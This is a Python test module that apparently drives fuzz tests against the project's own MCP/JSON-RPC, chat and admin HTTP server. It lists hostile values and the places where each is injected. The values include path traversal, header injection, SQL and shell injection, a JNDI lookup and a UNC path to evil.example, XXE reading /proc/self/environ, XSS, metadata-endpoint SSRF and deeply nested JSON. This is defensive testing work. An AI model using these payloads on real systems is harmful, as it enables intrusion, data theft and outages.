"""The table of attacks: hostile values, and the places where values of callers come in.

A value is JSON, byte by byte as it is sent; most are texts, which go into headers and paths too. A place is a
message, or a request, with `HERE` where the value goes. What is sent, and what has to hold afterwards, is in
`attacks_target`. Standard library only, so that the hostile server starts at once.

An attack that gets through does its harm, on the machine where the tests run. So no value names a file that anybody
needs: ways up end among the canaries, and what is absolute begins with `ROOT`, the folder that a target has to itself.
"""

import json
from collections.abc import Iterable
from typing import Any, NamedTuple

HERE = "@here@"
"""Where a value goes: as the whole of a text in a message, or as the key of an object."""

ROOT = "@root@"
"""Stands for the folder of the server that is attacked."""

IN_TEXT = "@in-text@"
"""Where a value goes as a part of a text."""


class Hostile(NamedTuple):
    """A value that should do no harm."""

    name: str
    json: bytes
    text: str | None = None
    """What it says, if it is a text that can be sent as UTF-8."""
    broken: bool = False
    """Whether it is no JSON, so that a message with it is none either."""

    def __repr__(self) -> str:
        return f"<{self.name}>"


def _text(name: str, text: str) -> Hostile:
    return Hostile(name, json.dumps(text).encode(), text)


KILO, MEGA = 1_000, 1_000_000

TEXTS = [
    _text(name, text)
    for name, text in {
        # Names of files
        "one folder up": "../canary",
        "two folders up": "../../canary",
        "three folders up": "../../../canary",
        "up, then down": "a/../../../canary",
        "up with backslashes": "..\\..\\canary",
        "up, slashes encoded": "..%2f..%2fcanary",
        "up, encoded twice": "%252e%252e%252f%252e%252e%252fcanary",
        "up, overlong slashes": "..%c0%af..%c0%afcanary",
        "up, full width": "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fcanary",
        "up, with an ending": "../../canary.x",
        "a neighbour": "canary",
        "a neighbour, with an ending": "canary.x",
        "absolute": f"{ROOT}/canary",
        "absolute, with an ending": f"{ROOT}/canary.x",
        "file URL": f"file://{ROOT}/canary",
        "process": "/proc/self/environ",
        "drive": "C:\\Windows\\win.ini",
        "share": "\\\\evil.example\\share",
        "home": "~/canary",
        "dot": ".",
        "dots": "...",
        "slash": "/",
        "slashes": "/" * 300,
        "glob": "*?[a-z]{a,b}**",
        "option": "--journal=canary",
        # Characters
        "empty": "",
        "blank": "   ",
        "tabs and lines": " \t\r\n ",
        "NUL": "a\0b",
        "NUL, encoded": "a%00b",
        "header": "x\r\nX-Injected: yes\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "header, encoded": "x%0d%0aX-Injected:%20yes%0d%0a%0d%0a<html>",
        "line of log": "x\nFORGED: a line of log",
        "line of log, CR": "x\rFORGED: a line of log",
        "line separators": "x\u2028FORGED\u2029FORGED\x85FORGED\x0b\x0c",
        "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b]8;;http://evil.example\x07",
        "terminal, C1": "\x9b31m\x90owned\x9c\x9d0;x\x9c",
        "backspaces": "innocent" + "\b" * 8 + "\x7f" * 8,
        "right to left": "\u202egnp.exe\u2066\u2067\u200f",
        "zero width": "ad\u200bm\u2060in\ufeff",
        "accents": "a" + "\u0301" * 500,
        "composed": "caf\u00e9",
        "decomposed": "cafe\u0301",
        "like another letter": "b\u043ex.say",
        "beyond the first plane": "\U0001f4a3\U0010ffff",
        "no characters": "\uffff\ufdd0\ufffe",
        # What others would interpret
        "SQL": "' OR 1=1; DROP TABLE calls; --",
        "SQL, double quotes": '" OR ""="',
        "SQL, like": "%_%",
        "format, percent": "%s%s%s%n%d%(x)s",
        "format, braces": "{0.__class__.__mro__}{self.__init__.__globals__}",
        "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
        "URI template": "{+a}{?b*}{/c:3}",
        "shell": "$(touch canary);`touch canary`|touch canary&",
        "variable": "$MIDCALL_TOKENS ${OPENAI_API_KEY} %MIDCALL_KEYS%",
        "lookup": "${jndi:ldap://evil.example/x}",
        "markup": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
        "entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///proc/self/environ">]><x>&y;</x>',
        "script URL": "javascript:alert(document.cookie)",
        "data URL": "data:text/html,<script>alert(1)</script>",
        "own network": "http://169.254.169.254/latest/meta-data/",
        "module": "os.system",
        "attribute": "__class__.__init__.__globals__",
        "prototype": "__proto__",
        "constructor": "constructor.prototype.admin",
        "regular expression": "(a+)+$",
        "regular expression, fed": "a" * 400 + "!",
        "many dashes": "files://" + "-" * 400,
        "many dashes behind a scope": "vault://" + "-" * 400,
        "many dots": "a." * 200,
        "JSON": '{"jsonrpc":"2.0","id":1,"method":"ping"}',
        "event": "x\n\nevent: message\ndata: {}\n\n",
        # Ids, numbers and seals of nobody
        "nobody's id": "00000000-0000-0000-0000-000000000000",
        "nobody's seal": "QUJD" * 60,
        "nobody's token": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0.",
        "negative": "-1",
        "large number": "9" * 400,
        "number of other digits": "\u0661\u0662\u0663",
        "superscript": "\u00b2",
        "infinite": "inf",
        "not a number": "nan",
        "beyond floats": "1e400",
        "underscored": "1_0",
        "null, spelled": "null",
        # Size
        "100 kB": "a" * (100 * KILO),
        "100 kB of dots": "." * (100 * KILO),
        "100 kB of dashes": "files://" + "-" * (100 * KILO),
        "1 MB": "a" * MEGA,
    }.items()
]

OTHERS = [
    Hostile(name, data)
    for name, data in {
        "null": b"null",
        "true": b"true",
        "zero": b"0",
        "minus one": b"-1",
        "minus nothing": b"-0.0",
        "2**53 + 1": b"9007199254740993",
        "2**64": b"18446744073709551616",
        "-2**63 - 1": b"-9223372036854775809",
        "10**400": b"1" + b"0" * 400,
        "1e400": b"1e400",
        "-1e400": b"-1e400",
        "1e-400": b"1e-400",
        "1e999999999": b"1e999999999",
        "100 kB of digits": b"9" * (100 * KILO),
        "empty array": b"[]",
        "empty object": b"{}",
        "array of texts": b'["../../canary","os.system"]',
        "prototype object": b'{"__proto__":{"admin":true},"constructor":{"prototype":{}}}',
        "one key twice": b'{"a":1,"a":2}',
        "reference to itself": b'{"$ref":"#"}',
        "100 levels": b"[" * 100 + b"]" * 100,
        "900 levels": b"[" * 900 + b"]" * 900,
        "900 levels of objects": b'{"a":' * 900 + b"1" + b"}" * 900,
        "5,000 levels": b"[" * 5000 + b"]" * 5000,
        "100,000 levels": b"[" * 100_000 + b"]" * 100_000,
        "100,000 levels of objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        "100,000 zeros": b"[" + b"0," * 99_999 + b"0]",
        "10,000 keys": b"{" + b",".join(b'"k%d":0' % n for n in range(10_000)) + b"}",
    }.items()
]

BROKEN = [
    Hostile(name, data, broken=True)
    for name, data in {
        "lone surrogate": b'"x\\ud800y"',
        "surrogates turned round": b'"\\udc00\\ud800"',
        "no UTF-8": b'"\xff\xfe"',
        "surrogate as UTF-8": b'"\xed\xa0\x80"',
        "overlong UTF-8": b'"\xc0\xaf"',
        "cut off UTF-8": b'"\xf0\x9f\x92"',
        "NaN": b"NaN",
        "Infinity": b"-Infinity",
        "raw control character": b'"a\x01b"',
        "bare word": b"undefined",
        "hexadecimal": b"0x10",
        "leading zero": b"007",
        "text without an end": b'"',
        "text without an end, 100 kB": b'"' + b"a" * (100 * KILO),
        "comma at the end": b"[1,]",
        "comment": b"1/* */",
        "single quotes": b"'a'",
        "levels without an end": b"[" * 100_000,
        "byte order mark": b'\xef\xbb\xbf"a"',
    }.items()
]

ALL = [*TEXTS, *OTHERS, *BROKEN]
NAMED = {value.name: value for value in ALL}


def some(*names: str) -> list[Hostile]:
    return [NAMED[name] for name in names]


CORE = some(
    "two folders up", "NUL", "header", "terminal", "SQL", "module", "large number", "100 kB", "null", "10**400",
    "100,000 levels", "lone surrogate",
)  # fmt: skip
"""For each place in a message."""

FEW = some("two folders up", "header", "100 kB", "1e400", "900 levels of objects", "surrogate as UTF-8")
"""For places that are tried in another way too."""

CORE_TEXTS = [value for value in CORE if value.text is not None]
"""For each place that takes texts alone."""

LINES = [
    value
    for value in TEXTS
    if value.text is not None and not set(value.text) & set("\r\n\0") and len(value.text) < MEGA
]
"""What a header can have in it. (CR, LF and NUL end it: what comes after them is another header.)"""

CORE_LINES = some(
    "two folders up", "a neighbour, with an ending", "absolute, with an ending", "header, encoded", "terminal, C1",
    "SQL", "empty", "number of other digits", "100 kB",
)  # fmt: skip

SESSION = "@session@"
"""Stands for the session of the attacker."""


# --- places -----------------------------------------------------------------------------------


class Place(NamedTuple):
    """Where a value comes in, in a message of JSON-RPC."""

    name: str
    message: dict[str, Any]
    values: list[Hostile]
    answered: bool = True
    """Whether it gets an answer, if it is a message at all."""


def request(method: str, /, **params: Any) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": "attack", "method": method, "params": params}


def tool(name: str, /, **arguments: Any) -> dict[str, Any]:
    return request("tools/call", name=name, arguments=arguments)


def of_prompt(name: str = "greet", argument: str = "name", value: str = "al", **more: Any) -> dict[str, Any]:
    ref = {"type": "ref/prompt", "name": name}
    return request("completion/complete", ref=ref, argument={"name": argument, "value": value}, **more)


def of_resource(
    uri: str = "notes://{folder}/{name}", kind: str = "ref/resource", **known: str
) -> dict[str, Any]:
    argument = {"name": "name", "value": "x"}
    ref = {"type": kind, "uri": uri}
    return request("completion/complete", ref=ref, argument=argument, context={"arguments": known})


def _of_both_eras() -> list[Place]:
    return [
        Place("tool name", tool(HERE), [*CORE, *some("1 MB", "100 kB of dots")]),
        Place("argument", tool("box.say", text=HERE), ALL),
        Place("argument of any kind", tool("box.take", value=HERE), CORE),
        Place("argument, deep inside", tool("box.form", address={"street": HERE, "floor": 1}), CORE),
        Place("argument that is a number", tool("box.form", address={"street": "x", "floor": HERE}), CORE),
        Place("name of an argument", tool("box.say", text="x", **{HERE: 1}), CORE_TEXTS),
        Place("name of an argument inside", tool("box.take", value={HERE: {HERE: []}}), CORE_TEXTS),
        Place("all arguments", request("tools/call", name="box.say", arguments=HERE), CORE),
        Place("all parameters", {**request("tools/call"), "params": HERE}, CORE),
        Place("tool that needs a scope", tool("vault.open", name=HERE), CORE),
        Place("prompt name", request("prompts/get", name=HERE), CORE),
        Place("argument of a prompt", request("prompts/get", name="greet", arguments={"name": HERE}), CORE),
        Place("resource URI", request("resources/read", uri=HERE), [*CORE, *some("many dashes", "many dashes behind a scope", "1 MB")]),
        Place("part of a resource URI", request("resources/read", uri=f"notes://{IN_TEXT}/x"), CORE_TEXTS),
        Place("resource URI of many parts", request("resources/read", uri=f"files://{IN_TEXT}/x"), CORE_TEXTS),
        Place("prompt of a completion", of_prompt(HERE), CORE),
        Place("argument of a completion", of_prompt(argument=HERE), CORE),
        Place("value to complete", of_prompt(value=HERE), CORE),
        Place("URI of a completion", of_resource(HERE), CORE),
        Place("kind of a reference", of_resource(kind=HERE), CORE),
        Place("known argument of a completion", of_resource(folder=HERE), CORE),
        Place("name of a known argument", of_resource(**{HERE: "x"}), CORE_TEXTS),
        Place("cursor of tools", request("tools/list", cursor=HERE), CORE),
        Place("cursor of resources", request("resources/list", cursor=HERE), CORE),
        Place("cursor of prompts", request("prompts/list", cursor=HERE), CORE),
        Place("cursor of templates", request("resources/templates/list", cursor=HERE), CORE),
        Place("method", {**request("x"), "method": HERE}, CORE),
        Place("version of JSON-RPC", {**tool("box.say", text="x"), "jsonrpc": HERE}, CORE),
        Place("request id", {**tool("box.say", text="x"), "id": HERE}, CORE),
        Place("other parts of a message", {**tool("box.say", text="x"), HERE: HERE}, CORE_TEXTS),
        Place(
            "progress token",
            request("tools/call", name="box.narrate", arguments={}, _meta={"progressToken": HERE}),
            CORE,
        ),
        Place("metadata", request("tools/call", name="box.say", arguments={"text": "x"}, _meta={HERE: 1}), CORE_TEXTS),
        Place(
            "trace",
            request("tools/call", name="box.say", arguments={"text": "x"}, _meta={"traceparent": HERE, "baggage": HERE}),
            CORE,
        ),
        Place(
            "request that is cancelled",
            {"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": HERE, "reason": HERE}},
            CORE,
            answered=False,
        ),
        Place("id of a response", {"jsonrpc": "2.0", "id": HERE, "result": {}}, CORE, answered=False),
        Place(
            "response",
            {"jsonrpc": "2.0", "id": 1, "error": {"code": 1, "message": HERE}},
            CORE,
            answered=False,
        ),
    ]  # fmt: skip


BOTH_ERAS = _of_both_eras()


def _state(value: str, **more: Any) -> dict[str, Any]:
    return request("tools/call", name="box.ask", arguments={}, requestState=value, **more)


MODERN = [
    *BOTH_ERAS,
    Place("requestState", _state(HERE, inputResponses={}), [*CORE, *some("nobody's seal", "nobody's token", "1 MB")]),
    Place("answers without a state", request("tools/call", name="box.ask", arguments={}, inputResponses=HERE), CORE),
    Place(
        "name of an answer",
        request("tools/call", name="box.ask", arguments={}, inputResponses={HERE: {"action": "accept"}}),
        CORE_TEXTS,
    ),
    Place(
        "idempotency key",
        request("tools/call", name="box.say", arguments={"text": "x"}, _meta={"dev.midcall/idempotencyKey": HERE}),
        CORE,
    ),
    Place(
        "log level of a request",
        request("tools/call", name="box.narrate", arguments={}, _meta={"io.modelcontextprotocol/logLevel": HERE}),
        CORE,
    ),
    Place(
        "client",
        request("tools/list", _meta={"io.modelcontextprotocol/clientInfo": {"name": HERE, "version": HERE}}),
        CORE,
    ),
    Place(
        "capabilities",
        request("tools/list", _meta={"io.modelcontextprotocol/clientCapabilities": {"elicitation": HERE}}),
        CORE,
    ),
    Place(
        "revision in the message",
        request("tools/list", _meta={"io.modelcontextprotocol/protocolVersion": HERE}),
        CORE,
    ),
    Place("task to look at", request("tasks/get", taskId=HERE), CORE),
    Place("task to answer", request("tasks/update", taskId=HERE, inputResponses={"word": {}}), CORE),
    Place("task to cancel", request("tasks/cancel", taskId=HERE), CORE),
    Place("answers of a task", request("tasks/update", taskId="x", inputResponses=HERE), CORE),
    Place("subscription to a URI", request("subscriptions/listen", notifications={"resourceSubscriptions": HERE}), CORE),
]  # fmt: skip

LEGACY = [
    Place("tool name", tool(HERE), ALL),
    Place("resource URI", request("resources/read", uri=HERE), TEXTS),
    *(
        place._replace(
            values=[value for value in FEW if value.text is not None or place.values is not CORE_TEXTS]
        )
        for place in BOTH_ERAS
        if place.name not in ("tool name", "resource URI")
    ),
    Place("log level", request("logging/setLevel", level=HERE), CORE),
    Place("resource to watch", request("resources/subscribe", uri=HERE), CORE),
    Place("resource to watch no more", request("resources/unsubscribe", uri=HERE), CORE),
    Place("question to respond to", tool("_plexus_respond", request_id=HERE, payload="x"), CORE),
    Place("response to nobody", tool("_plexus_respond", request_id="x", payload=HERE), CORE),
    Place("all of a response", request("tools/call", name="_plexus_respond", arguments=HERE), CORE),
    Place(
        "revision of a second handshake",
        request("initialize", protocolVersion=HERE, capabilities={}, clientInfo={}),
        CORE,
    ),
]

RAW = [
    Place("method", {**request("x"), "method": HERE}, ALL),
    Place("parameter", request("box.say", text=HERE), CORE),
    Place("parameter by place", {**request("box.say"), "params": [HERE]}, CORE),
    Place("all parameters", {**request("box.say"), "params": HERE}, CORE),
    Place("request id", {**request("box.say", text="x"), "id": HERE}, CORE),
    Place("method to subscribe to", request("plexus_subscribe", method=HERE, params={}), CORE),
    Place("parameters of a subscription", request("plexus_subscribe", method="box.say", params=HERE), CORE),
    Place("kinds of questions", request("plexus_subscribe", method="box.ask", supports=[HERE]), CORE),
    Place("durable or not", request("plexus_subscribe", method="box.say", params={"text": "x"}, durable=HERE), CORE),
    Place("call by the hub", request("plexus.call", method=HERE, params={}), CORE),
    Place("subscription to end", {**request("plexus_unsubscribe"), "params": [HERE]}, CORE),
    Place("subscription to respond to", {**request("plexus_respond"), "params": [HERE, "x", "y"]}, CORE),
    Place("question to respond to", request("plexus_respond", request_id=HERE, payload="x"), CORE),
    Place("response to nobody", request("plexus_respond", request_id="x", payload=HERE), CORE),
    Place("call to attach to", request("plexus_attach", call=HERE), CORE),
    Place("after which element", request("plexus_attach", call="x", after=HERE), CORE),
    Place("schema of a method", request("plexus.schema", method=HERE), CORE),
]  # fmt: skip

STDIO = [
    Place("line", {"line": HERE}, ALL),
    Place("method", {**request("x"), "method": HERE}, CORE),
    Place("request id", {**request("box.say", text="x"), "id": HERE}, CORE),
    Place("parameter", request("box.say", text=HERE), CORE),
    Place("tool name", tool(HERE), CORE),
    Place("call to attach to", request("plexus_attach", call=HERE), CORE),
]


class Request(NamedTuple):
    """Where a value comes in, in a request of HTTP."""

    name: str
    path: str
    """`HERE` stands for the value, encoded."""
    values: list[Hostile]
    verb: str = "GET"
    body: Any = None
    headers: tuple[tuple[str, str], ...] = ()
    """`HERE` stands for the value, as it is."""
    who: str = "ada"
    refused: bool = False
    """Whether no such request is ever taken."""


def _header(name: str, header: str, values: list[Hostile] = CORE_LINES, **more: Any) -> Request:
    return Request(name, headers=((header, HERE),), values=values, **{"path": "/mcp", **more})


PING = {"jsonrpc": "2.0", "id": "attack", "method": "ping"}
SAID = {"message": "hello"}
MODERN_HEADERS = (("mcp-protocol-version", "2026-07-28"), ("mcp-method", "tools/call"), ("mcp-name", HERE))
META = {
    "io.modelcontextprotocol/protocolVersion": "2026-07-28",
    "io.modelcontextprotocol/clientCapabilities": {},
}
JSON = (("content-type", "application/json"),)

HEADERS = [
    _header("session of a request", "mcp-session-id", LINES, verb="POST", body=PING),
    _header("session to listen to", "mcp-session-id"),
    Request("last event", "/mcp", CORE_LINES, headers=(("mcp-session-id", SESSION), ("last-event-id", HERE))),
    Request("last event, numbered", "/mcp", CORE_LINES, headers=(("mcp-session-id", SESSION), ("last-event-id", f"0-{HERE}"))),
    _header("host", "host", verb="POST", body=PING),
    _header("host of a page", "host", path="/"),
    _header("session to end", "mcp-session-id", verb="DELETE"),
    _header("session of a stranger", "mcp-session-id", verb="POST", body=PING, who="nobody", refused=True),
    _header("revision", "mcp-protocol-version", verb="POST", body=PING),
    _header("method of a header", "mcp-method", verb="POST", body={**request("ping", _meta=META)}),
    Request(
        "name of a header", "/mcp", CORE_LINES, "POST", {**tool("box.say", text="x", _meta=META)}, MODERN_HEADERS
    ),
    _header("content type", "content-type", verb="POST", body=PING),
    _header("accept", "accept", verb="POST", body=PING),
    _header("origin", "origin", verb="POST", body=PING),
    _header("origin of a page", "origin", path="/"),
    _header("origin before a request", "origin", verb="OPTIONS"),
    _header("headers asked for before a request", "access-control-request-headers", verb="OPTIONS"),
    _header("authorization", "authorization", verb="POST", body=PING, who="nobody", refused=True),
    Request("bearer", "/mcp", CORE_LINES, "POST", PING, (("authorization", f"Bearer {HERE}"),), "nobody", refused=True),
    Request("key of an administrator", "/admin/calls", CORE_LINES, headers=(("authorization", f"Bearer {HERE}"),),
            who="nobody", refused=True),
    _header("kept page", "if-none-match", path="/"),
    _header("encoding of a page", "accept-encoding", path="/"),
    _header("forwarded for", "x-forwarded-for", path="/admin/calls", who="nobody", refused=True),
    _header("cookie", "cookie", verb="POST", body=PING),
    _header("length", "transfer-encoding", verb="POST", body=PING),
    _header("trace", "traceparent", verb="POST", body=PING),
    _header("run of a chat", "x-session-id", path="/chat"),
    _header("last line of a chat", "x-last-lsn", path="/chat"),
    _header("run of a chat, posted", "x-session-id", path="/chat", verb="POST"),
    _header("content type of a chat", "content-type", path="/chat", verb="POST", body=SAID),
    _header("content type of an administrator", "content-type", path="/admin/calls/x/abort", verb="POST", body={}, who="root"),
    _header("origin of a chat", "origin", path="/chat", verb="POST", body=SAID),
]  # fmt: skip


def _post(name: str, path: str, body: Any, values: list[Hostile] = CORE, **more: Any) -> Request:
    return Request(name, path, values, "POST", body, JSON, **more)


def _answer(**given: Any) -> dict[str, Any]:
    answer = {"sessionId": "x", "elicitId": "x", "result": {"action": "accept"}, **given}
    return {"conversationId": "x", "pluginElicitResponses": [answer]}


def _agui(**given: Any) -> dict[str, Any]:
    asked = [{"id": "m", "role": "user", "content": "hello"}]
    return {"threadId": "mine", "runId": "r", "messages": asked, "tools": [], "context": [], **given}


CHAT = [
    _post("message", "/chat", {"message": HERE}, ALL),
    _post("id of a message", "/chat", {"message": "hello", "messageId": HERE}),
    _post("conversation", "/chat", {"message": "hello", "conversationId": HERE}),
    _post("messages", "/chat", {"messages": HERE}),
    _post("role", "/chat", {"messages": [{"role": HERE, "content": "x"}]}),
    _post("message of the past", "/chat", {"messages": [{"role": "user", "content": HERE}, {"role": "user", "content": "x"}]}),
    _post("argument of a tool", "/chat", {"message": f"ask {IN_TEXT}"}, CORE_TEXTS),
    _post("whole body", "/chat", HERE),
    _post("session of an answer", "/chat", _answer(sessionId=HERE)),
    _post("question of an answer", "/chat", _answer(elicitId=HERE)),
    _post("call of an answer", "/chat", _answer(callId=HERE)),
    _post("action", "/chat", _answer(result={"action": HERE})),
    _post("content of an answer", "/chat", _answer(result={"action": "accept", "content": HERE})),
    _post("answers", "/chat", {"conversationId": "x", "pluginElicitResponses": HERE}),
    _post("conversation to resume", "/chat", {"conversationId": HERE, "resume": True}),
    _post("session to abort", "/chat", {"conversationId": "x", "pluginAbort": {"sessionId": HERE, "reason": HERE}}),
    _post("conversation to stop", "/chat/stop", {"conversationId": HERE}),
    Request("conversation to show", f"/chat/conversations/{HERE}", CORE_TEXTS),
    Request("conversation to delete", f"/chat/conversations/{HERE}", CORE_TEXTS, "DELETE"),
    Request("run in the query", f"/chat?sessionId={HERE}", CORE_TEXTS),
    Request("line in the query", f"/chat?sessionId=x&lastLsn={HERE}", CORE_TEXTS),
    _post("thread", "/agui", _agui(threadId=HERE)),
    _post("run", "/agui", _agui(runId=HERE)),
    _post("text of a message", "/agui", _agui(messages=[{"role": "user", "content": HERE}])),
    _post("role of a message", "/agui", _agui(messages=[{"role": HERE, "content": "x"}])),
    _post("parts of a message", "/agui", _agui(messages=[{"role": "user", "content": [{"type": "text", "text": HERE}]}])),
    _post("interrupt", "/agui", _agui(messages=[], resume=[{"interruptId": HERE, "status": "resolved", "payload": {}}])),
    _post("payload", "/agui", _agui(messages=[], resume=[{"interruptId": "x", "status": "resolved", "payload": HERE}])),
    _post("status of an interrupt", "/agui", _agui(resume=[{"interruptId": "x", "status": HERE}])),
    _post("whole input", "/agui", HERE),
    _post("thread to connect to", "/agui/connect", _agui(threadId=HERE)),
    _post("run to connect to", "/agui/connect", _agui(runId=HERE)),
]  # fmt: skip

CALL = {
    "id": "made-up",
    "name": "box.say",
    "arguments": "e30=",
    "created": 1,
    "expires": 9e9,
    "status": "waiting",
}
EXPORTED: dict[str, Any] = {"call": CALL, "entries": [], "outcomes": {}}
EXPORT = (("content-type", "application/x-ndjson"),)


def _import(name: str, line: Any, values: list[Hostile] = CORE) -> Request:
    return Request(f"import, {name}", "/admin/import", values, "POST", line, EXPORT, who="root")


def _admin(name: str, path: str, **more: Any) -> Request:
    return Request(name, path, CORE_TEXTS, who="root", **more)


ADMIN = [
    _admin("call to show", f"/admin/calls/{HERE}"),
    _admin("call to show with values", f"/admin/calls/{HERE}?values=true"),
    _admin("call to export", f"/admin/calls/{HERE}/export"),
    _post("call to answer", f"/admin/calls/{HERE}/answers", {"answers": {}}, CORE_TEXTS, who="root"),
    _post("call to abort", f"/admin/calls/{HERE}/abort", {}, CORE_TEXTS, who="root"),
    Request("page mark", f"/admin/calls?after={HERE}", [*CORE_TEXTS, *some("infinite", "not a number", "beyond floats", "negative", "number of other digits", "underscored", "SQL, like")], who="root"),
    Request("page mark, with an id", f"/admin/calls?after=1%20{HERE}", CORE_TEXTS, who="root"),
    _admin("status", f"/admin/calls?status={HERE}"),
    _admin("method of calls", f"/admin/calls?name={HERE}"),
    _admin("caller of calls", f"/admin/calls?principal={HERE}"),
    Request("how many", f"/admin/calls?limit={HERE}", [*CORE_TEXTS, *some("negative", "number of other digits", "superscript", "infinite", "underscored")], who="root"),
    _admin("status to export", f"/admin/export?status={HERE}"),
    _admin("page of an administrator", f"/admin/{HERE}"),
    _post("answers", "/admin/calls/x/answers", {"answers": HERE}, who="root"),
    _post("question", "/admin/calls/x/answers", {"answers": {HERE: 1}}, CORE_TEXTS, who="root"),
    _post("answer", "/admin/calls/x/answers", {"answers": {"a": HERE}}, who="root"),
    _post("reason", "/admin/calls/x/abort", {"reason": HERE}, who="root"),
    _post("body", "/admin/calls/x/abort", HERE, [*CORE, *OTHERS, *BROKEN], who="root"),
    _import("the whole line", HERE, ALL),
    _import("call", {**EXPORTED, "call": HERE}),
    _import("entries", {**EXPORTED, "entries": HERE}),
    _import("outcomes", {**EXPORTED, "outcomes": HERE}),
    _import("number of an outcome", {**EXPORTED, "outcomes": {HERE: ""}}, CORE_TEXTS),
    *(
        _import(part, {**EXPORTED, "call": {**CALL, "status": "completed", part: HERE}}, [*FEW, *some("null", "10**400")])
        for part in ("id", "name", "arguments", "context", "principal", "idempotency_key", "created", "expires", "status",
                     "segment", "wake", "questions", "fence", "owner")
    ),
    _import("place of an entry", {**EXPORTED, "entries": [[HERE, "x", "done", ""]]}),
    _import("keys", {"keys": HERE}),
    _import("name of a key", {"keys": {HERE: "AAAA"}}, CORE_TEXTS),
    _import("key", {"keys": {"made-up": HERE}}),
    _post("own call to abort", f"/calls/{HERE}/abort", {}, CORE_TEXTS),
    _post("reason to abort an own call", "/calls/x/abort", {"reason": HERE}),
]  # fmt: skip

PATHS = [
    Request("any path", f"/{HERE}", CORE_TEXTS),
    Request("file of the page", f"/assets/{HERE}", TEXTS),
    Request("folder of the page", f"/assets/{HERE}/x", CORE_TEXTS),
    Request("module of the page", f"/web-modules/{HERE}/x.js", CORE_TEXTS),
    Request("name of a module", f"/web-modules/1/{HERE}", CORE_TEXTS),
    Request("conversation of the page", f"/c/{HERE}", CORE_TEXTS),
    Request("query of the page", f"/?{HERE}={HERE}", CORE_TEXTS),
    Request("metrics", f"/metrics?{HERE}", CORE_TEXTS, who="root"),
    Request("metrics, below", f"/metrics/{HERE}", CORE_TEXTS, who="root"),
    Request("health", f"/health?{HERE}", CORE_TEXTS, who="nobody"),
    Request("readiness", f"/ready?{HERE}", CORE_TEXTS, who="nobody"),
    Request("below MCP", f"/mcp/{HERE}", CORE_TEXTS),
    Request("below the WebSocket", f"/ws/{HERE}", CORE_TEXTS),
    Request("resource of OAuth", f"/.well-known/oauth-protected-resource/{HERE}", CORE_TEXTS, who="nobody"),
]

AS_THEY_ARE = [
    "/../../canary", "/assets/../../../canary", "/assets/..%2f..%2f..%2fcanary", "/assets/....//....//canary",
    "/assets//proc/self/environ", "/assets/%2fproc%2fself%2fenviron", "/assets/..\\..\\canary", "/assets/index.html%00.js", "/assets/.",
    "/assets/..", "/assets/%2e%2e/%2e%2e/canary", "/assets/%c0%ae%c0%ae/canary", "/assets/..;/canary",
    "//evil.example/", "//evil.example/assets/", "/%2fevil.example/", "/\\evil.example/", "/assets?/../canary", "/assets/",
    "http://evil.example/", "http://evil.example@127.0.0.1/", "*", "/%", "/%zz", "/%ff%fe", "/c/%0d%0aX-Injected:%20yes",
    "/%0d%0aX-Injected:%20yes/", "//%0d%0aX-Injected:%20yes/", "/tools/", "/chat/", "/web-modules/../../canary",
    "/web-modules/1/..%2f..%2fcanary", "/c/../../canary", "/.git/config", "/.env", "/src/../.env", "/admin/../metrics",
    "/admin%2fcalls", "/ADMIN/calls", "/./admin/calls", "/mcp/../admin/calls", "/;/admin/calls", "/x" * 5000,
]  # fmt: skip
"""Paths that are sent byte by byte."""


def put(message: Any, value: Hostile) -> bytes:
    """A message with a value in its place."""
    if message == HERE:
        return value.json
    data = json.dumps(message).encode().replace(b'"%b"' % HERE.encode(), value.json)
    if value.text is not None:
        data = data.replace(IN_TEXT.encode(), json.dumps(value.text).encode()[1:-1])
    return data


def aimed(value: Hostile, root: str) -> Hostile:
    """A value as it is sent to the server that has this folder."""
    if value.text is None or ROOT not in value.text:
        return value
    return _text(value.name, value.text.replace(ROOT, root))


def rows(places: Iterable[Any]) -> list[Any]:
    """Each place with each of its values."""
    return [(place, value) for place in places for value in place.values]
